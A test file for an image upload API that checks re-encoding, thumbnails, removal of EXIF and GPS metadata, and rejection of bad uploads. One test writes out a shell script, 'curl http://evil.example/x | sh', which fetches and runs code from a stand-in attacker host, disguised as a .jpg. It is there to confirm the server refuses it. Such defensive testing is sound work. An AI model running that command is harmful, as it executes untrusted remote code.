import sharp from 'sharp';
import { startTestServer, type TestServer } from '../helpers/server';
import { createUser, type TestUser } from '../helpers/users';
import { binary, fixture, listFiles, makeImage, makePhoneJpeg, makePngBomb, tempUploadDir, uploadFile } from './media';

describe('image uploads', () => {
  let app: TestServer;
  let user: TestUser;
  let dir: string;

  beforeAll(async () => {
    dir = await tempUploadDir();
    app = await startTestServer({ env: { UPLOAD_DIR: dir, UPLOAD_IMAGE_MAX_BYTES: String(2 * 1024 * 1024) } });
    user = await createUser(app);
  });
  afterAll(() => app.close());

  const fetchBytes = (path: string, token = user.accessToken) =>
    app.api.get(path).set('Authorization', `Bearer ${token}`).buffer(true).parse(binary);

  it.each([
    ['jpeg', 'image/jpeg'],
    ['png', 'image/png'],
    ['webp', 'image/webp'],
  ] as const)('accepts a %s image, re-encodes it and makes a WebP thumbnail', async (format, mimeType) => {
    const res = await uploadFile(app, user.accessToken, 'image', await makeImage(640, 480, format), `photo.${format}`);
    expect(res.status).toBe(201);
    expect(res.body.data).toMatchObject({ kind: 'image', mimeType, width: 640, height: 480 });
    expect(res.body.data.thumbnailUrl).toBe(`/api/upload/${res.body.data.id}/thumbnail`);
    expect(res.body.data).not.toHaveProperty('storageKey');

    const content = await fetchBytes(res.body.data.url);
    expect(content.status).toBe(200);
    expect(content.headers['content-type']).toBe(mimeType);
    expect(Number(content.headers['content-length'])).toBe(res.body.data.size);
    expect((await sharp(content.body as Buffer).metadata()).format).toBe(format);
  });

  it('caps the longest side and makes a thumbnail of at most 320 px', async () => {
    const res = await uploadFile(app, user.accessToken, 'image', await makeImage(3000, 1500, 'jpeg'), 'wide.jpg');
    expect(res.status).toBe(201);
    expect(res.body.data).toMatchObject({ width: 2048, height: 1024 });

    const thumb = await fetchBytes(res.body.data.thumbnailUrl);
    expect(thumb.status).toBe(200);
    expect(thumb.headers['content-type']).toBe('image/webp');
    const meta = await sharp(thumb.body as Buffer).metadata();
    expect(meta).toMatchObject({ format: 'webp', width: 320, height: 160 });
  });

  it('applies the EXIF orientation and removes every metadata block, GPS included', async () => {
    const original = await makePhoneJpeg(400, 200);
    const before = await sharp(original).metadata();
    expect(before.orientation).toBe(6);
    expect(before.exif?.includes(Buffer.from('Secret Model X'))).toBe(true);
    // The GPSInfo IFD pointer (tag 0x8825) is in the original's EXIF.
    expect(before.exif?.includes(Buffer.from([0x88, 0x25])) || before.exif?.includes(Buffer.from([0x25, 0x88]))).toBe(true);

    const res = await uploadFile(app, user.accessToken, 'image', original, 'IMG_0001.JPG');
    expect(res.status).toBe(201);
    // Orientation 6 means "rotate 90°": the stored image is upright, so portrait.
    expect(res.body.data).toMatchObject({ width: 200, height: 400 });

    const stored = (await fetchBytes(res.body.data.url)).body as Buffer;
    const after = await sharp(stored).metadata();
    expect(after).toMatchObject({ width: 200, height: 400 });
    expect(after.exif).toBeUndefined();
    expect(after.orientation).toBeUndefined();
    expect(stored.includes(Buffer.from('Secret Model X'))).toBe(false);
  });

  it('accepts a HEIC photo by content and stores it as is, with its dimensions but without a thumbnail', async () => {
    const heic = await fixture('photo.heic');
    const res = await uploadFile(app, user.accessToken, 'image', heic, 'photo.heic');
    expect(res.status).toBe(201);
    expect(res.body.data).toMatchObject({ mimeType: 'image/heic', width: 64, height: 48, size: heic.length });
    expect(res.body.data.thumbnailUrl).toBeUndefined();

    const content = await fetchBytes(res.body.data.url);
    expect(Buffer.compare(content.body as Buffer, heic)).toBe(0);
    const thumb = await app.api.get(`/api/upload/${res.body.data.id}/thumbnail`).set('Authorization', `Bearer ${user.accessToken}`);
    expect(thumb.status).toBe(404);
    expect(thumb.body.error.code).toBe('NOT_FOUND');
  });

  it('blanks the Exif (GPS included) of a HEIC photo it cannot re-encode, keeping the picture intact', async () => {
    const heic = await fixture('photo-gps.heic');
    // The fixture really carries camera and GPS Exif: heif-enc copied it from a JPEG written by sharp.
    expect(heic.includes(Buffer.from('GPSCam'))).toBe(true);
    const res = await uploadFile(app, user.accessToken, 'image', heic, 'IMG_0001.HEIC');
    expect(res.status).toBe(201);
    expect(res.body.data).toMatchObject({ mimeType: 'image/heic', width: 64, height: 48, size: heic.length });

    const stored = (await fetchBytes(res.body.data.url)).body as Buffer;
    expect(stored.length).toBe(heic.length);
    expect(stored.includes(Buffer.from('GPSCam'))).toBe(false);
    expect(stored.includes(Buffer.from('TestPhone'))).toBe(false);
    // Only the metadata item changed: the container still parses with the same picture size.
    const after = await sharp(stored).metadata();
    expect(after).toMatchObject({ format: 'heif', width: 64, height: 48 });
    // The Exif item is still listed, but every byte of it is zero.
    expect(after.exif?.some((byte) => byte !== 0) ?? false).toBe(false);
  });

  it('refuses a script renamed to .jpg and sent as image/jpeg, by its content (415)', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
    const res = await uploadFile(app, user.accessToken, 'image', script, 'holiday.jpg', 'image/jpeg');
    expect(res.status).toBe(415);
    expect(res.body.error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
  });

  it('refuses a PDF sent to the image route (415)', async () => {
    const res = await uploadFile(app, user.accessToken, 'image', await fixture('invoice.pdf'), 'invoice.png', 'image/png');
    expect(res.status).toBe(415);
    expect(res.body.error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
  });

  it('refuses a truncated JPEG with a clear 400', async () => {
    const full = await makeImage(800, 600, 'jpeg');
    const res = await uploadFile(app, user.accessToken, 'image', full.subarray(0, Math.floor(full.length / 2)), 'cut.jpg');
    expect(res.status).toBe(400);
    expect(res.body.error).toMatchObject({ code: 'VALIDATION_FAILED', message: expect.stringMatching(/corrupt or truncated/) });
  });

  it('refuses a decompression bomb before decoding it (413)', async () => {
    const bomb = makePngBomb();
    expect(bomb.length).toBeLessThan(200 * 1024);
    const res = await uploadFile(app, user.accessToken, 'image', bomb, 'bomb.png');
    expect(res.status).toBe(413);
    expect(res.body.error).toMatchObject({ code: 'PAYLOAD_TOO_LARGE', message: expect.stringMatching(/too many pixels/) });
  });

  it('refuses an image over the configured size (413)', async () => {
    const big = Buffer.concat([await makeImage(64, 64, 'png'), Buffer.alloc(2 * 1024 * 1024 + 1)]);
    const res = await uploadFile(app, user.accessToken, 'image', big, 'big.png');
    expect(res.status).toBe(413);
    expect(res.body.error.code).toBe('PAYLOAD_TOO_LARGE');
  });

  it('answers 400 when no file is sent, or it is sent under another field name', async () => {
    const none = await app.api
      .post('/api/upload/image')
      .set('Authorization', `Bearer ${user.accessToken}`)
      .field('caption', 'no file here');
    expect(none.status).toBe(400);
    expect(none.body.error).toMatchObject({ code: 'VALIDATION_FAILED', details: [{ field: 'file' }] });

    const wrongField = await app.api
      .post('/api/upload/image')
      .set('Authorization', `Bearer ${user.accessToken}`)
      .attach('photo', await makeImage(32, 32, 'png'), 'a.png');
    expect(wrongField.status).toBe(400);
    expect(wrongField.body.error.code).toBe('VALIDATION_FAILED');

    const json = await app.api.post('/api/upload/image').set('Authorization', `Bearer ${user.accessToken}`).send({ file: 'x' });
    expect(json.status).toBe(400);
    expect(json.body.error.code).toBe('VALIDATION_FAILED');
  });

  it('requires authentication', async () => {
    const res = await app.api.post('/api/upload/image').attach('file', await makeImage(32, 32, 'png'), 'a.png');
    expect(res.status).toBe(401);
    expect(res.body.error.code).toBe('UNAUTHENTICATED');
  });

  it('leaves no staged file behind after all of the above', async () => {
    expect(await listFiles(`${dir}/tmp`)).toEqual([]);
  });
});
